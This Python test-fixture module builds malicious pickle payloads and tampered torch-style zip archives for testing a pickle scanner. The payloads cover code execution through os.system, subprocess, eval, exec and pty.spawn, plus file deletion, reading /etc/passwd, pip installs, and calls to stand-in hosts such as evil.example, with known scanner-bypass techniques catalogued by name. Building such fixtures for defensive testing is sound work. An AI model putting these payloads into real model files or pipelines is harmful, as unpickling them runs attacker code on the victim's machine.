"""Hand-assembled hostile pickles and archives for the scanner tests (never loaded by the tests).

Each builder returns bytes. Opcodes are written out by hand so every technique is exactly the
one named (protocol, memo trick, opcode), the way published bypasses were built.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
import zlib


def s(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def binunicode(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def call_global(module: str, name: str, arg: str = "echo pwned", proto: int = 2) -> bytes:
    """``module.name(arg)`` through GLOBAL + REDUCE."""
    if proto < 2:  # no PROTO header, no TUPLE1: MARK ... TUPLE
        return f"c{module}\n{name}\n(V{arg}\ntR.".encode()
    return b"\x80" + bytes([proto]) + f"c{module}\n{name}\n".encode() + binunicode(arg) + b"\x85R."


def stack_global(module: str, name: str, arg: str = "echo pwned", proto: int = 4) -> bytes:
    return b"\x80" + bytes([proto]) + s(module) + s(name) + b"\x93" + s(arg) + b"\x85R."


# -- one builder per technique: name -> bytes; every one must be flagged -----------------------

def by_protocol() -> dict:
    out = {f"os.system protocol {p} (pickle.dumps)": pickle.dumps(_Reduce("os", "system", "echo pwned"), protocol=p)
           for p in range(6)}
    out["os.system protocol 0 GLOBAL/REDUCE by hand"] = b"cos\nsystem\n(S'echo pwned'\ntR."
    out["os.system protocol 1 BINUNICODE"] = b"cos\nsystem\n(" + binunicode("echo") + b"tR."
    return out


class _Reduce:
    """An object whose pickle calls ``module.name(arg)`` (built without importing the target)."""

    def __init__(self, module, name, arg):
        self.module, self.name, self.arg = module, name, arg

    def __reduce__(self):
        import importlib

        return getattr(importlib.import_module(self.module), self.name), (self.arg,)


def techniques() -> dict:
    """Every technique the scanner must catch, by name."""
    t = dict(by_protocol())
    t["GLOBAL os.system"] = call_global("os", "system")
    t["STACK_GLOBAL os.system"] = stack_global("os", "system")
    t["INST os.system (protocol 0)"] = b"(S'echo pwned'\nios\nsystem\n."
    t["OBJ os.system (protocol 1)"] = b"(cos\nsystem\nS'echo pwned'\no."
    t["NEWOBJ subprocess.Popen"] = b"\x80\x02csubprocess\nPopen\n]S'id'\na\x85\x81."
    t["NEWOBJ_EX subprocess.Popen"] = b"\x80\x04" + s("subprocess") + s("Popen") + b"\x93]" + s("id") + b"a\x85}\x92."
    t["posix.system"] = call_global("posix", "system")
    t["nt.system"] = call_global("nt", "system")
    t["subprocess.check_output"] = stack_global("subprocess", "check_output")
    # memo tricks: strings stored with BINPUT/MEMOIZE mixes, fetched back with BINGET (picklescan #14)
    t["memo BINPUT/BINGET module and name"] = (
        b"\x80\x04" + s("os") + b"q\x00" + s("system") + b"q\x01" + b"0" + b"0"
        + s("torch._utils") + b"\x94" + s("_rebuild_tensor_v2") + b"\x94" + b"00"
        + b"h\x00h\x01\x93" + s("echo pwned") + b"\x85R.")
    t["memo LONG_BINPUT/LONG_BINGET"] = (
        b"\x80\x04" + s("os") + b"r\x05\x00\x00\x00" + s("system") + b"r\x06\x00\x00\x00" + b"00"
        + b"j\x05\x00\x00\x00j\x06\x00\x00\x00\x93" + s("id") + b"\x85R.")
    t["memo PUT/GET text (protocol 0 ops in a protocol 4 stream)"] = (
        b"\x80\x04" + s("os") + b"p7\n0" + s("system") + b"p8\n0g7\ng8\n\x93" + s("id") + b"\x85R.")
    t["memo overwrite: safe name first, dangerous later at the same index"] = (
        b"\x80\x04" + s("torch") + b"q\x00" + s("os") + b"q\x00" + b"00" + s("system") + b"q\x01" + b"0"
        + b"h\x00h\x01\x93" + s("id") + b"\x85R.")
    t["STACK_GLOBAL with DUP/POP around the strings"] = b"\x80\x04" + s("os") + b"20" + s("system") + b"\x93" + s("id") + b"\x85R."
    t["STACK_GLOBAL on STRING (str in Python 3)"] = b"\x80\x04S'os'\nS'system'\n\x93" + s("id") + b"\x85R."
    t["STACK_GLOBAL on UNICODE"] = b"\x80\x04Vos\nVsystem\n\x93" + s("id") + b"\x85R."
    t["STACK_GLOBAL on BINSTRING"] = b"\x80\x04T\x02\x00\x00\x00osU\x06system\x93" + s("id") + b"\x85R."
    body = s("os") + s("system") + b"\x93" + s("id") + b"\x85R."
    t["STACK_GLOBAL with FRAME"] = b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body
    t["dotted name: pathlib / os.system"] = b"\x80\x04" + s("pathlib") + s("os.system") + b"\x93" + s("id") + b"\x85R."
    t["dotted name: numpy / core._internal.sys.modules"] = b"\x80\x04" + s("numpy") + s("core._internal.sys.modules") + b"\x93."
    t["builtins.eval"] = stack_global("builtins", "eval", "__import__('os').system('id')")
    t["builtins.exec"] = stack_global("builtins", "exec", "import os")
    t["builtins.compile"] = stack_global("builtins", "compile", "x")
    t["builtins.__import__"] = stack_global("builtins", "__import__", "os")
    t["builtins.open"] = stack_global("builtins", "open", "/etc/passwd")
    t["__builtin__.eval (Python 2 name, fix_imports)"] = call_global("__builtin__", "eval", "1")
    t["builtins.getattr chain"] = (
        b"\x80\x04" + s("builtins") + s("getattr") + b"\x93\x94" + s("builtins") + s("__import__") + b"\x93" + s("os")
        + b"\x85R" + s("system") + b"\x86R" + s("id") + b"\x85R.")
    t["importlib.import_module + getattr (ModelScan #331)"] = (
        b"\x80\x04" + s("importlib") + s("import_module") + b"\x93\x94" + s("builtins") + b"\x85R\x94"
        + s("builtins") + s("getattr") + b"\x93\x94h\x02h\x01" + s("eval") + b"\x86R" + s("1") + b"\x85R.")
    t["numpy.__builtins__ / numpy.size (ModelScan #330)"] = bytes.fromhex(
        "80049566000000000000008c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275696c74696e735f5f93949468017d"
        "7d8c0573686170656803738662680168018c046576616c86528c1d5f5f696d706f72745f5f28226f7322292e73797374656d28226964"
        "222985522e")
    t["BUILD on numpy.prod, then dotted STACK_GLOBAL (ModelScan #85)"] = (
        b"\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93Vecho\n\x85R.")
    t["operator.attrgetter"] = (
        b"\x80\x04" + s("operator") + s("attrgetter") + b"\x93" + s("system") + b"\x85R" + s("posix") + s("getcwd")
        + b"\x93\x85R.")
    t["_operator.methodcaller"] = stack_global("_operator", "methodcaller", "system")
    t["operator.itemgetter"] = stack_global("operator", "itemgetter", "x")
    t["functools.partial"] = b"\x80\x04" + s("functools") + s("partial") + b"\x93" + s("builtins") + s("print") + b"\x93\x85R."
    t["runpy._run_code"] = stack_global("runpy", "_run_code", "import os")
    t["runpy.run_path"] = stack_global("runpy", "run_path", "/tmp/x.py")
    t["importlib.import_module"] = stack_global("importlib", "import_module", "os")
    t["pkgutil.resolve_name"] = stack_global("pkgutil", "resolve_name", "os:system")
    t["pip.main (CVE-2025-1716)"] = (b"\x80\x04" + s("pip") + s("main") + b"\x93]" + b"(" + s("install") + s("evilpkg")
                                     + b"e\x85R.")
    t["pip._internal.cli.main.main"] = stack_global("pip._internal.cli.main", "main", "install")
    t["webbrowser.open"] = stack_global("webbrowser", "open", "http://evil.example")
    t["socket.create_connection"] = stack_global("socket", "create_connection", "evil")
    t["shutil.rmtree"] = stack_global("shutil", "rmtree", "/")
    t["torch.hub.load"] = stack_global("torch.hub", "load", "evil/repo")
    t["torch.load (nested)"] = stack_global("torch", "load", "x.pt")
    t["torch._C._load_for_lite_interpreter"] = stack_global("torch._C", "_load_for_lite_interpreter", "x")
    t["torch.utils.collect_env.run (ModelScan #338)"] = stack_global("torch.utils.collect_env", "run", "id")
    t["multiprocessing.util.spawnv_passfds (ModelScan #338)"] = stack_global("multiprocessing.util", "spawnv_passfds", "/bin/sh")
    t["pandas.read_csv exfiltration (ModelScan #338)"] = stack_global("pandas.io.parsers.readers", "read_csv", "https://x")
    t["asyncio.unix_events._UnixSubprocessTransport (CVE-2025-10157)"] = stack_global("asyncio.unix_events", "_UnixSubprocessTransport")
    t["distutils.file_util.write_file (CVE-2025-10155)"] = stack_global("distutils.file_util", "write_file", "/tmp/x")
    t["_io.FileIO (CVE-2025-10156)"] = stack_global("_io", "FileIO", "/etc/passwd")
    t["sys.modules"] = stack_global("sys", "modules")
    t["code.InteractiveInterpreter"] = stack_global("code", "InteractiveInterpreter")
    t["ctypes.CDLL"] = stack_global("ctypes", "CDLL", "libc.so.6")
    t["pty.spawn"] = stack_global("pty", "spawn", "/bin/sh")
    t["marshal.loads"] = b"\x80\x04" + s("marshal") + s("loads") + b"\x93C\x04abcd\x85R."
    t["types.FunctionType"] = stack_global("types", "FunctionType")
    t["types.CodeType"] = stack_global("types", "CodeType")
    t["timeit.timeit (stdlib outside old denylists)"] = stack_global("timeit", "timeit", "import os")
    t["cProfile.run"] = stack_global("cProfile", "run", "import os")
    t["_posixsubprocess.fork_exec"] = stack_global("_posixsubprocess", "fork_exec")
    t["unknown module (allowlist, not denylist)"] = stack_global("totally_unknown_pkg", "innocent_function")
    t["EXT1 copyreg extension code"] = b"\x80\x02\x82\x01" + binunicode("id") + b"\x85R."
    t["EXT2 copyreg extension"] = b"\x80\x02\x83\x01\x02)R."
    t["EXT4 copyreg extension"] = b"\x80\x02\x84\x01\x02\x03\x04)R."
    inner = pickle.dumps(_Reduce("os", "system", "echo nested"), protocol=2)
    t["nested pickle passed to pickle.loads"] = (b"\x80\x04" + s("pickle") + s("loads") + b"\x93C" + bytes([len(inner)])
                                                 + inner + b"\x85R.")
    t["nested pickle via _pickle.loads and _codecs.encode"] = (
        b"\x80\x04" + s("_pickle") + s("loads") + b"\x93" + s("_codecs") + s("encode") + b"\x93"
        + binunicode(inner.decode("latin-1")) + s("latin1") + b"\x86R\x85R.")
    comp = zlib.compress(inner)
    t["zlib-compressed nested pickle"] = (
        b"\x80\x04" + s("pickle") + s("loads") + b"\x93" + s("zlib") + s("decompress") + b"\x93B"
        + struct.pack("<I", len(comp)) + comp + b"\x85R\x85R.")
    nested_torch = legacy_torch(call_global("os", "system"))
    t["torch.storage._load_from_bytes with a hostile payload"] = (
        b"\x80\x02ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(nested_torch)) + nested_torch
        + b"\x85R.")
    t["torch.storage._load_from_bytes escaping through _rebuild_from_type_v2"] = (
        b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(ctorch.storage\n_load_from_bytes\nctorch\nTensor\n"
        b"(ctorch\nSize\n)RtN" + b"tR.")
    t["torch.storage._load_from_bytes on a computed value"] = (
        b"\x80\x02ctorch.storage\n_load_from_bytes\nctorch\nSize\n)R\x85R.")
    t["torch.storage._load_from_bytes returned to the caller"] = b"\x80\x02ctorch.storage\n_load_from_bytes\n."
    return t


# -- containers ---------------------------------------------------------------------------------

def torch_zip(members: dict, compress: int = zipfile.ZIP_STORED) -> bytes:
    """A zip laid out like a torch checkpoint."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compress) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def patch_member(archive: bytes, name: str, *, crc: int = None, flags: int = None, local_name: bytes = None) -> bytes:
    """Change a member's CRC / flag bits (local and central) or its local-header name (same length)."""
    data = bytearray(archive)
    raw = name.encode()
    for sig, flag_off, crc_off, name_off in ((b"PK\x03\x04", 6, 14, 30), (b"PK\x01\x02", 8, 16, 46)):
        pos = data.find(sig)
        while pos >= 0:
            nlen = struct.unpack_from("<H", data, pos + (26 if sig == b"PK\x03\x04" else 28))[0]
            if bytes(data[pos + name_off:pos + name_off + nlen]) == raw:
                if crc is not None:
                    struct.pack_into("<I", data, pos + crc_off, crc)
                if flags is not None:
                    struct.pack_into("<H", data, pos + flag_off, flags)
                if local_name is not None and sig == b"PK\x03\x04":
                    assert len(local_name) == nlen
                    data[pos + name_off:pos + name_off + nlen] = local_name
            pos = data.find(sig, pos + 4)
    return bytes(data)


def break_central_directory(archive: bytes) -> bytes:
    """Overwrite the central directory and end record with junk."""
    cd = archive.find(b"PK\x01\x02")
    return archive[:cd] + b"\x00garbage" * ((len(archive) - cd) // 8 + 1)


def legacy_torch(main: bytes) -> bytes:
    """The legacy torch layout: magic, protocol, sys info, the object, storage keys."""
    return (pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
            + pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2) + main
            + pickle.dumps([], protocol=2))
